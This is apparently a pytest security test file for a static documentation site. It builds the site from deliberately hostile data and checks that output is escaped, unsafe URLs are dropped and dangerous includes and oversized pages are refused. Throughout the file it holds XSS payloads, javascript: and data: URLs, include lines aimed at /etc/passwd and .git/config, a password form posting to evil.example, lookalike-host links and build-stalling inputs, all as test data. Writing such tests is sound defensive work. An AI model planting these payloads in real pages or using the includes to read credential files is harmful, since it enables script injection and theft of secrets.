"""Contributed text can never run script: hostile data built into a real site.

The early check would refuse most of this data. These tests switch it off, so
they prove what the output side guarantees on its own: every plain text is
escaped, every Markdown text sanitized, every URL checked.
"""

from __future__ import annotations

import datetime
import html
import json
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from clirun import python_m
from conftest import REPO, run_mkdocs, write_data, write_note
from mkdocs.commands.build import build
from mkdocs.config import load_config
from staticserver import serve

from career_atlas.core import textcheck
from career_atlas.core.sanitize import html_link, noscript_lines, safe_url, sanitize_page
from career_atlas.plugin.handwritten import MAX_PAGES, refusals
from career_atlas.site.snippets import includes

XSS = '<img src=x onerror=alert(1)>'
OVERFLOWING = '<img src=x onerror=alert(35)>' + "B" * 90
ATTR_LIST_TITLE = "*Read this*{: autofocus=autofocus tabindex=0 onfocus=alert(31) }"
HEADING_LINK = '## [x](https://a.com "[y](autofocus/onfocus=alert(32)//)")'
HOSTILE_MARKDOWN = "\n\n".join([
    f"Plain {XSS} and <script>alert(2)</script>",
    # A link title: Material's tooltips put a title into the page as HTML on hover.
    '[titled](https://example.com/ "&lt;img src=x onerror=alert&#40;35&#41;&gt;") and [by reference][t]',
    '[t]: https://example.com/ "&lt;img src=x onerror=alert&#40;36&#41;&gt;"',
    "~~~\n<script>alert(3)</script>\n~~~",
    "\\`<b onmouseover=alert(4)>x</b>\\`",
    "<https://a<img/src/onerror=alert(5)>>",
    "> [r]: javascript:alert(6)\n> [quoted][r]",
    "- item\n\n    [r2]: javascript:alert(7)\n\n  [listed][r2]",
    "[entity](javascript&#58;alert(8)) [tab](java\tscript:alert(9)) [data](data:text/html;base64,PHNjcmlwdD4=)",
    "para\n{ data-pagefind-body onclick=alert(10) }",
    '<svg onload=alert(11)></svg> <iframe src="javascript:alert(12)"></iframe>',
    '--8<-- "mkdocs.yml"',
    "```\n```html\n<script>alert(13)</script>\n```",
])


def hostile_passage(ko: str, en: str) -> dict:
    """A passage whose anchor's quote is hostile too (the check that would verify it is off)."""
    return {"ko": ko, "en": en, "anchors": [{"note": "talk-notes", "lines": 2, "quote": f'{XSS} " onmouseover="alert(29)'}]}


def hostile(tiny_data: dict) -> dict:
    role = tiny_data["roles"]["plumber"]
    role["name"] = {"ko": f"배관공 `{XSS}`", "en": f"Data plumber `{XSS}` </title><script>alert(14)</script>"}
    role["summary"] = {"ko": '요약 "><img src=x onerror=alert(15)>', "en": f"Summary {XSS} & more"}
    role["aliases"] = {"ko": ["<b onmouseover=alert(16)>별명</b>"], "en": ["</script><script>alert(17)</script>"]}
    role["questions"] = {"ko": [f"질문 {XSS}"], "en": ["</li></ul><script>alert(25)</script>"]}
    role["body"] = [{"heading": {"ko": XSS, "en": "## [x](https://a.com \"[y](autofocus/onfocus=alert(26)//)\")"}},
                    hostile_passage(HOSTILE_MARKDOWN, HOSTILE_MARKDOWN)]
    role["responsibilities"] = [hostile_passage(XSS, "[x](javascript:alert(18))")]
    role["references"] = [{"title": f"Ref {XSS}", "url": "https://example.org/a)(javascript:alert(19)", "year": 2015,
                           "authors": XSS, "note": {"ko": XSS, "en": XSS}}]
    role["background"] = [{"title": {"ko": XSS, "en": XSS}, "text": {"ko": HOSTILE_MARKDOWN, "en": HEADING_LINK + "\n\n" + HOSTILE_MARKDOWN},
                           "references": [{"title": XSS, "url": "https://example.org/x)](javascript:alert(20))", "year": 2020}]}]
    stage = tiny_data["stages"]["collect"]
    stage["steps"][0]["name"] = {"ko": f"단계 {XSS}", "en": f"Step {XSS}"}
    stage["steps"][0]["body"] = [hostile_passage(HOSTILE_MARKDOWN, HOSTILE_MARKDOWN)]
    case = tiny_data["ethics"]["bias"]["cases"][0]
    case["name"] = {"ko": XSS, "en": XSS}
    case["lecture"] = [hostile_passage(HOSTILE_MARKDOWN, HEADING_LINK + "\n\n" + HOSTILE_MARKDOWN)]
    case["body"] = {"ko": HEADING_LINK, "en": HEADING_LINK}
    source = tiny_data["sources"]["talk-notes"]
    source["name"] = {"ko": XSS, "en": f"*Read this*{{: autofocus=autofocus tabindex=0 onfocus=alert(27) }} {XSS}"}
    source["description"] = {"ko": XSS, "en": "[x](javascript:alert(28))"}
    source["title"] = f"</em>{XSS}"
    lecture = tiny_data["lectures"]["talk"]
    lecture["speaker"] = {"ko": XSS, "en": XSS}
    lecture["affiliation"] = {"ko": "[a](javascript:alert(21))", "en": XSS}
    term = tiny_data["glossary"]["annotation"]
    term["summary"] = {"ko": '정답 "><img src=x onerror=alert(22)>', "en": 'Answers "onmouseover="alert(23)'}
    # Too long for its box in the navigation and the header: Material copies an overflowing entry's
    # text into a tooltip, which its content.tooltips feature wrote as HTML (adv20r).
    term["name"] = {"ko": f"어노테이션 {OVERFLOWING}", "en": f"Annotation {OVERFLOWING}"}
    return tiny_data


class _Scan(HTMLParser):
    """Everything in a page that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.inline_scripts: list[str] = []
        self._in_script: dict[str, str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        for k, v in a.items():
            if k.startswith("on"):
                self.live.append(f"<{tag} {k}>")
            if k == "title" and "<" in v:  # Material's tooltip shows a title as HTML
                self.live.append(f"<{tag} title={v[:40]!r}>")
            if k in ("href", "src", "action", "formaction", "xlink:href", "data") and _scheme(v) not in ("", "http", "https", "mailto"):
                self.live.append(f"<{tag} {k}={v!r}>")
        if tag in ("iframe", "object", "embed", "img", "base", "frame"):
            self.live.append(f"<{tag}>")
        if tag == "meta" and a.get("http-equiv", "").lower() == "refresh":
            self.live.append("<meta refresh>")
        if tag == "script":
            self._in_script = a

    def handle_data(self, data: str) -> None:
        if self._in_script is not None and "src" not in self._in_script:
            self.inline_scripts.append(f"{self._in_script.get('type', '')}|{data}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = None


_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*(?=:)")


def _scheme(url: str) -> str:
    """The scheme a browser reads (a letter, then letters, digits, + - .), stricter than a browser in
    one way: every space and control character is dropped first, not only those around the URL."""
    cleaned = "".join(c for c in html.unescape(url) if c > " ").lower()
    return m.group(0) if (m := _SCHEME.match(cleaned)) else ""


def _scan(site: Path) -> tuple[list[str], set[str]]:
    live, scripts = [], set()
    for path in sorted(site.rglob("*.html")):
        scan = _Scan()
        scan.feed(path.read_text(encoding="utf-8"))
        live += [f"{path.relative_to(site)}: {x}" for x in scan.live]
        for s in scan.inline_scripts:
            kind, text = s.split("|", 1)
            if kind == "application/ld+json":
                json.loads(text)  # data, not script: it must parse, so it cannot have been broken out of
            else:
                scripts.add(text.strip())
    return live, scripts


def build_in_process(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Build with the early Markdown check off, so only the output side protects the site."""
    monkeypatch.setattr(textcheck, "problems", lambda text, **_: [])
    monkeypatch.setattr(textcheck, "shape_problem", lambda text, point=False: None)
    monkeypatch.chdir(project)
    build(load_config(str(project / "mkdocs.yml")))


@pytest.fixture
def hostile_site(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch, tiny_data: dict) -> tuple[Path, Path]:
    """The tiny site built twice: with benign data and with hostile data."""
    built = []
    for name, data in (("benign", tiny_data), ("hostile", hostile(json.loads(json.dumps(tiny_data))))):
        project = tmp_path_factory.mktemp(name)
        shutil.copy(REPO / "mkdocs.yml", project / "mkdocs.yml")
        for lang in ("ko", "en"):
            (project / "docs" / lang).mkdir(parents=True)
            # A hand-written page's raw HTML reaches the article untouched by the atlas's renderer:
            # only the finished page's sanitizer stands between it and the reader.
            raw = f"\n\n{XSS}\n\n<a href=\"javascript:alert(33)\">x</a> <div onmouseover=\"alert(34)\">y</div>\n" if name == "hostile" else ""
            (project / "docs" / lang / "about.md").write_text("# About\n" + raw, encoding="utf-8")
        write_data(project, data)
        if name == "hostile":
            write_note(project, "plumber-2026-11-20-ko", {"title": f"노트 {XSS}", "author": f"{XSS}", "author_url": "https://example.org/)(javascript:alert(24))",
                                         "date": datetime.date(2026, 11, 20), "lang": "ko", "about": ["plumber", "collect#raw"]}, HOSTILE_MARKDOWN)
            # Front matter that the other language's page announces; a heading whose link title
            # holds a second link with a handler (both fired on load before issue 20).
            write_note(project, "plumber-2026-11-21-en", {"title": ATTR_LIST_TITLE, "author": "[x](javascript:alert(30))",
                                              "date": datetime.date(2026, 11, 21), "lang": "en", "about": ["plumber"]},
                       HEADING_LINK + "\n\nText.\n")
        build_in_process(project, monkeypatch)
        built.append(project / "site")
    return built[0], built[1]


def test_no_live_script_handler_or_script_url_in_any_page(hostile_site: tuple[Path, Path]) -> None:
    benign, evil = hostile_site
    live, scripts = _scan(evil)
    assert live == [], "\n".join(live)
    _, expected_scripts = _scan(benign)
    # Inline scripts are the templates' own: the same set as with benign data.
    assert scripts <= expected_scripts, scripts - expected_scripts


def test_hostile_text_is_shown_as_text(hostile_site: tuple[Path, Path]) -> None:
    _, evil = hostile_site
    page = (evil / "en/roles/plumber/index.html").read_text(encoding="utf-8")
    title = page.split("<title>", 1)[1].split("</title>", 1)[0]
    assert "&lt;img src=x onerror=alert(1)&gt;" in title and "&lt;/title&gt;" in title
    assert "Plain &lt;img src=x onerror=alert(1)&gt;" in page  # the body says what was typed
    assert "<li>&lt;/li&gt;&lt;/ul&gt;&lt;script&gt;alert(25)&lt;/script&gt;</li>" in page  # a question, too
    nav = (evil / "ko/index.html").read_text(encoding="utf-8")
    assert "배관공 `&lt;img src=x onerror=alert(1)&gt;`" in nav  # the navigation, too
    assert 'data-provenance="background"' in page and 'data-provenance="lecture" data-source="talk"' in page


def test_hostile_pages_in_chromium(hostile_site: tuple[Path, Path], browser) -> None:  # type: ignore[no-untyped-def]
    _, evil = hostile_site
    playwright_error = pytest.importorskip("playwright.sync_api").Error
    dialogs: list[str] = []
    with serve(evil) as base:
        page = browser.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for lang in ("ko", "en"):
            for path in ("", "roles/", "roles/plumber/", "stages/collect/", "ethics/bias/", "lectures/talk/", "glossary/annotation/",
                         "glossary/", "map/landscape/", "map/matrix/"):
                page.goto(f"{base}{lang}/{path}")
                page.hover("article")
                for entry in page.query_selector_all(".md-ellipsis"):  # an overflowing one gets its text as a tooltip
                    if entry.is_visible() and entry.evaluate("e => e.offsetWidth < e.scrollWidth"):
                        try:
                            entry.hover(timeout=2_000)
                        except playwright_error:  # the header's title lies under another element
                            entry.evaluate("e => (e.closest('a') || e).dispatchEvent(new MouseEvent('mouseenter'))")
                        page.wait_for_timeout(100)
                injected = page.evaluate(
                    "() => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))"
                    " || (e.tagName === 'SCRIPT' && e.closest('article'))).map(e => e.outerHTML.slice(0, 80))"
                )
                assert injected == [], (lang, path, injected)
        tooltips = page.evaluate("() => [...document.querySelectorAll('.md-tooltip, .md-tooltip2')].map(t => t.innerHTML)")
        page.close()
    assert dialogs == []
    assert not any("<img" in t for t in tooltips), tooltips


@pytest.mark.parametrize("url", ['https://example.org/"><script>alert(1)</script>', "https://example.org/a)(javascript:alert(1)",
                                 "https://ex.org/ onmouseover=alert(1)", "https://ex.org/\u0000x"])
def test_links_built_in_code_keep_hostile_urls_inert(url: str) -> None:
    scan = _Scan()
    scan.feed(html_link(url, "<b>t</b>"))
    assert scan.live == [] and "<b>" not in html_link(url, "<b>t</b>")


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt&#58;alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
                                 "data:text/html,x", "vbscript:x", "//evil.example/x", "https:x"])
def test_only_http_https_and_mailto_urls_are_links(url: str) -> None:
    assert safe_url(url) is None
    assert "<a" not in html_link(url, "t")


@pytest.mark.parametrize("article", [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    '<p class="atlas-noscript"><img src=x onerror=alert(1)></p>',
    '<p class="atlas-noscript" title="</noscript><img src=x onerror=alert(1)>">x</p>',
    '<p class="atlas-noscript">&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</p>',
])
def test_only_the_atlas_plain_text_lines_go_into_noscript(article: str) -> None:
    """The sanitizer drops noscript; the lines put back in one after it hold text alone, so
    nothing can close the noscript early and start markup (the parser reads it as raw text)."""
    page = noscript_lines(sanitize_page(article))
    for inside in page.split("<noscript>")[1:]:
        content = inside.split("</noscript>", 1)[0]
        assert "<" not in content.replace('<p class="atlas-noscript">', "", 1).replace("</p>", "", 1)
    assert "<img" not in page


def test_the_picker_line_for_readers_without_javascript_is_in_noscript() -> None:
    assert noscript_lines(sanitize_page('<p class="atlas-noscript">Needs &amp; JavaScript</p>')) == \
        '<noscript><p class="atlas-noscript">Needs &amp; JavaScript</p></noscript>'


def refused_pages(project: Path) -> list[str]:
    """What the build refuses of ``docs/<lang>/`` before it builds anything, as it reports it
    (handwritten.refusals, called by the build: test_every_languages_hand_written_pages_are_checked_before_any_language_builds
    builds it end to end)."""
    return refusals({lang: (project / "docs" / lang).resolve() for lang in ("ko", "en")}, project)


def test_a_hand_written_page_may_hold_plain_front_matter_images_and_the_repositorys_files_only(tiny_site: Path) -> None:
    """The theme prints a page's title, subtitle, status, icon and template unescaped, and copies
    any other file of docs/<lang>/ as it is: each is refused with its file and line."""
    en = tiny_site / "docs" / "en"
    (en / "evil.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (en / "evil.svg").write_text("<svg onload=alert(2)></svg>", encoding="utf-8")
    (en / "picture.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (en / "about.md").write_text("---\ntitle: \"T</title><script>alert(3)</script>\"\ntemplate: ../../etc/passwd\n"
                                 "description: Plain words.\n---\n\n# About\n\n--8<-- \"/etc/hostname\"\n\n--8<--\n/etc/passwd\n--8<--\n\n"
                                 "--8<-- '/etc/hosts'\n", encoding="utf-8")
    (en / "other.md").write_text("subtitle: <img src=x onerror=alert(4)>\n\n# Other\n", encoding="utf-8")  # MultiMarkdown-style
    refused = "\n".join(refused_pages(tiny_site))
    for expected in ("docs/en/other.md:1: front matter: 'subtitle' is not allowed", "docs/en/evil.html: only Markdown pages and images", "docs/en/evil.svg: only Markdown pages and images",
                     "docs/en/about.md:2: front matter: title must be plain text",
                     "docs/en/about.md:3: front matter: 'template' is not allowed",
                     "docs/en/about.md:9: the included file '/etc/hostname' is not a file of this repository",
                     "docs/en/about.md:12: the included file '/etc/passwd' is not a file of this repository",  # a block of files
                     "docs/en/about.md:15: the included file '/etc/hosts' is not a file of this repository"):
        assert expected in refused, refused
    assert "docs/en/picture.png:" not in refused and "front matter: description" not in refused


def test_a_hand_written_page_may_not_be_a_link_nor_include_hidden_files(tiny_site: Path) -> None:
    """A link in docs/<lang>/ would publish any file of the machine, and .git/config can hold a
    CI token: both are refused with the file and line, and nothing is built."""
    en = tiny_site / "docs" / "en"
    outside = tiny_site.parent / "secret.md"
    outside.write_text("# Secret\n\ntoken\n", encoding="utf-8")
    (en / "linked.md").symlink_to(outside)
    (tiny_site / ".git").mkdir()
    (tiny_site / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n", encoding="utf-8")
    (en / "about.md").write_text('# About\n\n--8<-- ".git/config"\n\n--8<--\ndata/../.git/config\n--8<--\n', encoding="utf-8")
    refused = "\n".join(refused_pages(tiny_site))
    for expected in ("docs/en/linked.md: is a link", "docs/en/about.md:3: the included file '.git/config' is in a hidden folder",
                     "docs/en/about.md:6: the included file 'data/../.git/config' is in a hidden folder"):
        assert expected in refused, refused


def test_a_hand_written_page_includes_only_markdown_pages_and_costs_a_bounded_build(tiny_site: Path) -> None:
    """A template's source is not a page to publish, and 8,000 abbreviations over 30,000 words
    took a build 41 s: both are refused before anything is built."""
    (tiny_site / "career_atlas").mkdir()
    (tiny_site / "career_atlas" / "main.html").write_text("{% block x %}{% endblock %}\n", encoding="utf-8")
    en = tiny_site / "docs" / "en"
    (en / "about.md").write_text('# About\n\n--8<-- "career_atlas/main.html"\n', encoding="utf-8")
    slow = "".join(f"*[a{i}]: b\n" for i in range(8000)) + "\n" + "a1 " * 30000 + "\n"
    (en / "slow.md").write_text("# Slow\n\n" + slow, encoding="utf-8")
    refused = "\n".join(refused_pages(tiny_site))
    assert "docs/en/about.md:3: the included file 'career_atlas/main.html' is not a Markdown page" in refused, refused
    assert "docs/en/slow.md: its Markdown, with the files it includes, is too much work to build" in refused


def test_an_included_page_includes_nothing_and_a_page_has_bounded_headings_and_emoji(tiny_site: Path) -> None:
    """One level of nesting got past the include rules (a page including a page that included
    .git/config published it; 30 x 30 includes wrote a 23 MB page); 21,000 headings, 140,000
    emoji codes, 21,600 definition lines and 9,000 tabs, each page under the work bound, took
    builds 59 s, 246 s, 218 s and 12 s."""
    (tiny_site / ".git").mkdir()
    (tiny_site / ".git" / "config").write_text('[remote "origin"]\n\turl = https://token@example.org/\n', encoding="utf-8")
    (tiny_site / "evil.md").write_text('# Evil\n\n--8<-- ".git/config"\n', encoding="utf-8")
    (tiny_site / "plain.md").write_text("# Plain\n\ntext\n", encoding="utf-8")
    en = tiny_site / "docs" / "en"
    (en / "about.md").write_text('# About\n\n--8<-- "plain.md"\n\n--8<-- "evil.md"\n', encoding="utf-8")
    (en / "heads.md").write_text("# Heads\n\n" + "## a\n" * 300, encoding="utf-8")  # with its title, 301
    (en / "emoji.md").write_text("# Emoji\n\n" + ":smile:" * 301 + "\n", encoding="utf-8")
    (en / "fine.md").write_text("# Fine\n\n" + "## a\n\n:smile:\n\n" * 298, encoding="utf-8")
    (en / "terms.md").write_text("# Terms\n\nT\n" + ":   d\n" * 301, encoding="utf-8")
    (en / "tabs.md").write_text("# Tabs\n\n" + '=== "t"\n    x\n' * 301, encoding="utf-8")
    (en / "notes.md").write_text("# Notes\n\n" + '!!! note\n    x\n???+ tip "y"\n    z\n' * 151, encoding="utf-8")
    (en / "tags.md").write_text("# Tags\n\n" + "<a " * 301 + "\n", encoding="utf-8")
    (en / "code.md").write_text("# Code\n\n" + "``a`" * 667 + "\n", encoding="utf-8")
    refused = refused_pages(tiny_site)
    tail = "; split the page or use fewer"
    assert refused == [
        "docs/en/about.md:5: the included file 'evil.md' includes '.git/config' (its line 3); "
        "a page may include only pages that include nothing themselves",
        "docs/en/code.md: has 2,001 backticks (`) with the files it includes; at most 2,000 on a page "
        f"(a code span reads ahead to its closing run: 31,600 took 7 s){tail}",
        f"docs/en/emoji.md: has 301 emoji codes (:name:) with the files it includes; at most 300 on a page (each becomes a picture){tail}",
        "docs/en/heads.md: has 301 headings with the files it includes; at most 300 on a page "
        f"(the table of contents makes each heading's id unique by trying _1, _2... in turn){tail}",
        "docs/en/notes.md: has 302 admonitions and details (!!! or ???) with the files it includes; at most 300 on a page "
        f"(each is a block of its own){tail}",
        f"docs/en/tabs.md: has 301 tabs (=== ...) with the files it includes; at most 300 on a page (a run of tabs is re-read for each){tail}",
        "docs/en/tags.md: has 301 angle brackets (< of raw HTML and autolinks) with the files it includes; at most 300 on a page "
        f"(the raw HTML pattern reads the rest of its paragraph again at each: 20,400 took 28 s){tail}",
        "docs/en/terms.md: has 301 definition lines (: ...) with the files it includes; at most 300 on a page "
        f"(a list of them without blank lines is re-read for each){tail}",
    ]


def test_a_hand_written_page_nests_within_the_stack_and_includes_only_sections_its_file_has(tiny_site: Path) -> None:
    """2,000 nested emphasis marks and 1,000 nested markdown blocks ended builds with a RecursionError
    traceback, and a missing section with pymdownx's SnippetMissingError (adv20k): each is now a
    message with its file and line."""
    en, ko = tiny_site / "docs" / "en", tiny_site / "docs" / "ko"
    (en / "emphasis.md").write_text("# E\n\n" + "_" * 2000 + "a" + "_" * 2000 + "\n", encoding="utf-8")
    (ko / "blocks.md").write_text("# D\n\n" + '<div markdown="1">\n' * 60 + "a\n" + "</div>\n" * 60, encoding="utf-8")
    (ko / "quotes.md").write_text("# Q\n\n" + "> " * 21 + "a\n", encoding="utf-8")
    (en / "section.md").write_text('# S\n\n--8<-- "CONTRIBUTING.md:nosuch"\n\n--8<-- "CONTRIBUTING.md:en"\n', encoding="utf-8")
    shutil.copy(REPO / "CONTRIBUTING.md", tiny_site / "CONTRIBUTING.md")
    assert sorted(refused_pages(tiny_site)) == [
        "docs/en/emphasis.md:3: 2,000 emphasis marks in a run (* _ ~); at most 50 (deeper, the build runs out of stack); nest less",
        "docs/en/section.md:3: the included file 'CONTRIBUTING.md' has no section 'nosuch' (no `--8<-- [start:nosuch]` line); its sections: en, ko",
        "docs/ko/blocks.md: has 60 blocks with a markdown attribute with the files it includes; at most 50 on a page "
        "(nested 330 deep they exhausted Python's stack); split the page or use fewer",
        "docs/ko/quotes.md:3: 21 blockquote levels (>); at most 20 (deeper, the build runs out of stack); nest less",
    ]


def test_hand_written_file_names_are_plain_and_no_folder_link_is_walked(tiny_site: Path) -> None:
    """A page named <img src=x onerror=...>.md ran script in the navigation of every page beside it,
    notes(1).md broke Pagefind's glob, and two links to "." made the build walk forever (adv20l):
    each is refused by name before MkDocs lists the files."""
    en, ko = tiny_site / "docs" / "en", tiny_site / "docs" / "ko"
    (en / "<img src=x onerror=alert`1`>.md").write_text("Body text only.\n", encoding="utf-8")
    (ko / "notes(1).md").write_text("# 노트\n", encoding="utf-8")
    (en / "a").symlink_to(".")
    (en / "b").symlink_to(".")
    result = run_mkdocs(tiny_site, "build", "--strict")  # the fixture's timeout would end a walk that never does
    assert result.returncode != 0 and "Traceback" not in result.stderr
    refused = sorted(line.strip().split(":", 1)[0] for line in result.stderr.splitlines() if line.strip().startswith("docs/"))
    assert refused == ["docs/en/a", "docs/en/b"], result.stderr[-2000:]
    assert "may hold only letters a-z, digits, - and _" not in result.stderr  # the folder links first: nothing else is read
    assert result.stderr.count("is a link to a folder") == 2
    for link in (en / "a", en / "b"):
        link.unlink()
    refused = refused_pages(tiny_site)
    assert sorted(line.split(":", 1)[0] for line in refused) == ["docs/en/<img src=x onerror=alert`1`>.md", "docs/ko/notes(1).md"]
    assert all("may hold only letters a-z, digits, - and _" in line for line in refused)


def test_the_edit_link_of_a_page_that_includes_a_file_is_percent_encoded(tiny_site: Path) -> None:
    """The theme prints the edit link's address into an attribute as it is: an included file named
    with a quote would have added a handler to the edit button (adv20l, through a page's name)."""
    (tiny_site / 'x"onmouseover="alert(1).md').write_text("# X\n\ntext\n", encoding="utf-8")
    (tiny_site / "docs" / "en" / "about.md").write_text('--8<-- \'x"onmouseover="alert(1).md\'\n', encoding="utf-8")
    result = run_mkdocs(tiny_site, "build", "--strict")
    assert result.returncode == 0, result.stderr[-1500:]
    built = (tiny_site / "site/en/about/index.html").read_text(encoding="utf-8")
    assert '"onmouseover' not in built and 'onmouseover="' not in built and "x%22onmouseover%3D%22alert%281%29.md" in built


def test_definition_lists_cost_their_rereading(tiny_site: Path) -> None:
    """After each definition, def_list reads the lines that follow again: 290 definitions before
    1,800 long lines ran at 7 us a unit of work, 12 times the others (adv20l)."""
    page = "# Defs\n\nT\n" + ":   d\n" * 290 + ("x" * 300 + "\n") * 1_800
    (tiny_site / "docs" / "en" / "defs.md").write_text(page, encoding="utf-8")
    (tiny_site / "docs" / "en" / "plain.md").write_text(page.replace(":   d\n", "d\n"), encoding="utf-8")  # the same text, no definition
    refused = "\n".join(refused_pages(tiny_site))
    assert "docs/en/defs.md: its Markdown, with the files it includes, is too much work to build" in refused, refused
    assert "docs/en/plain.md" not in refused


def test_the_hand_written_pages_of_all_languages_have_a_work_bound_together(tiny_site: Path) -> None:
    """Pages each under the page bound, but many, would add up to any build time."""
    heavy = "# Heavy\n\n" + "a *b* " * 9_500 + "\n"  # 817,000 units: under PAGE_WORK, over a quarter of ALL_PAGES_WORK
    for lang in ("ko", "en"):
        for n in range(2):
            (tiny_site / "docs" / lang / f"heavy{n}.md").write_text(heavy, encoding="utf-8")
    refused = refused_pages(tiny_site)
    assert len(refused) == 1 and refused[0].startswith("docs/: the hand-written pages of all languages together are too much work to build")


def test_a_language_holds_a_bounded_number_of_hand_written_pages(tiny_site: Path) -> None:
    """Each hand-written page is listed beside the others: 3,000 tiny ones took a build 260 s."""
    many = tiny_site / "docs/en/many"
    many.mkdir()
    for n in range(MAX_PAGES):  # with about.md: one over
        (many / f"p{n}.md").write_text(f"# Page {n}\n\nText.\n", encoding="utf-8")
    assert [p[:40] for p in refused_pages(tiny_site)] == [f"docs/en/: {MAX_PAGES + 1} hand-written pages, at most {MAX_PAGES}"[:40]]
    (many / "p0.md").unlink()
    assert refused_pages(tiny_site) == []  # as many as MAX_PAGES: built


def test_links_that_show_one_site_and_open_another_are_refused() -> None:
    assert safe_url("https://аpple.com/") is None and safe_url("https://www.lucypark.kr@evil.example/") is None
    assert safe_url("https://xn--pple-43d.com/") == "https://xn--pple-43d.com/" and safe_url("https://example.org/a@b")
    assert html_link("https://user@evil.example/", "Upstage") == "Upstage"
    found = [p.message for p in textcheck.problems("[a](https://аpple.com/)\n\n[b](https://www.lucypark.kr@evil.example/)")]
    assert [m.split(": ", 1)[1][:20] for m in found] == ["its host has non-ASC", "it has a user name b"]


def test_every_languages_hand_written_pages_are_checked_before_any_language_builds(tiny_site: Path) -> None:
    """Both problems in one run, found before the first language is built (the second language's
    pass used to find its own after the first had built), and nothing built: the build reports
    handwritten.refusals, which the other tests of hand-written pages read directly."""
    (tiny_site / "docs" / "ko" / "about.md").write_text('# 소개\n\n--8<-- "/etc/hostname"\n', encoding="utf-8")
    (tiny_site / "docs" / "en" / "about.md").write_text('# About\n\n--8<-- "/etc/hosts"\n', encoding="utf-8")
    os.mkfifo(tiny_site / "docs" / "en" / "pipe.md")  # read, it would never end
    (tiny_site / "docs" / "ko" / "latin1.md").write_bytes(b"# \xff\n")
    result = run_mkdocs(tiny_site, "build", "--strict")
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "docs/ko/about.md:3: the included file '/etc/hostname'" in result.stderr, result.stderr[-1500:]
    assert "docs/en/about.md:3: the included file '/etc/hosts'" in result.stderr
    assert "docs/en/pipe.md: is not a regular file" in result.stderr
    assert "docs/ko/latin1.md: is not UTF-8 text (bad byte at offset 2)" in result.stderr
    assert result.stderr.count("\n  docs/") == len(refused_pages(tiny_site)) == 4  # the refusals the other tests read, every one
    assert not (tiny_site / "site").exists() and not (tiny_site / "site.partial").exists()


def test_snippet_lines_are_read_as_pymdownx_reads_them() -> None:
    page = ('--8<-- "CONTRIBUTING.md:en"\n'
            "text --8<-- 'not/a/snippet'\n"
            ";--8<-- \"escaped.md\"\n"
            "--8<--\nREADME.md\n;commented.md\n\ndata/x.yml:3:9\n--8<--\n"
            "  --8<-- 'indented.md'\n"
            '--8<--\x0c\n--8<-- ".git/config"\n--8<--\x0c\n')  # a form feed ends no line for pymdownx: no block here
    assert includes(page) == [(1, "CONTRIBUTING.md"), (5, "README.md"), (8, "data/x.yml"), (10, "indented.md"), (12, ".git/config")]


def test_a_hand_written_page_cannot_feed_the_atlas_script_its_data_attributes(tiny_site: Path) -> None:
    """atlas.js reads data-* attributes (a picker's roles as JSON put into the page, a link's
    target set on click) as the generated pages write them: a hand-written page keeps none."""
    gadget = ('# Gadget\n\n<form data-atlas-compare><select name="a"><option value="x">x</option></select></form>\n\n'
              '<div data-compare-result data-roles=\'{"x":{"name":"<img src=x onerror=alert(1)>"}}\'></div>\n\n'
              '<p><a class="md-select__link" data-atlas-keep data-atlas-href="javascript:alert(2)" href="#top">Switch</a></p>\n\n'
              '<form action="https://evil.example/login"><input name="password" placeholder="Password"><button>Sign in</button></form>\n')
    for lang in ("ko", "en"):
        (tiny_site / "docs" / lang / "gadget.md").write_text(gadget, encoding="utf-8")
    result = run_mkdocs(tiny_site, "build", "--strict")
    assert result.returncode == 0, result.stderr[-1500:]
    for lang in ("ko", "en"):
        page = (tiny_site / "site" / lang / "gadget/index.html").read_text(encoding="utf-8")
        article = page.split("<article", 1)[1].split("</article>", 1)[0]
        assert "data-roles" not in article and "data-atlas-href" not in article and "data-compare-result" not in article
        assert "data-atlas-compare" not in article and "Switch" in article
        assert not re.search(r"<(form|select|button)\b", article) and "evil.example" not in article  # no form to send a password
    picker = (tiny_site / "site/en/compare/index.html").read_text(encoding="utf-8")
    assert "data-roles=" in picker and "<select" in picker  # the generated comparison page keeps its own


def test_include_paths_and_page_sizes_that_stalled_or_crashed_the_check_get_messages(tiny_site: Path) -> None:
    """A name too long for the system or holding NUL ended the build with a traceback; 16,000 ",1:1" in a path
    took pymdownx's pattern 40 s; 300 "<a " on a 10 MB page took the markdown-block pattern 27 s."""
    en = tiny_site / "docs/en"
    (en / "long.md").write_text(f'# Long\n\n--8<-- "{"a" * 300}.md"\n\n--8<-- "a\x00b.md"\n', encoding="utf-8")
    (en / "slow.md").write_text('# Slow\n\n--8<-- "CONTRIBUTING.md:1,1:1' + ",1:1" * 16_000 + 'x"\n', encoding="utf-8")
    (en / "big.md").write_text("# Big\n\n" + "<a " * 300 + "x " * 5_000_000, encoding="utf-8")
    result = python_m("mkdocs", "build", "--strict", cwd=tiny_site, timeout=30)
    assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr[-1500:]
    for expected in (f"docs/en/long.md:3: the included file '{'a' * 80}' is not a file of this repository",
                     "docs/en/long.md:5: the included file 'a\\x00b.md' is not a file of this repository",
                     "docs/en/slow.md:3: the included file 'CONTRIBUTING.md:1,1:1,1:1",
                     "docs/en/big.md: has 10,000,907 characters; a page's Markdown is at most 1,000,000 units"):
        assert expected in result.stderr, result.stderr[-1500:]


def test_a_hand_written_headings_markup_stays_text_in_the_pages_title(tiny_site: Path) -> None:
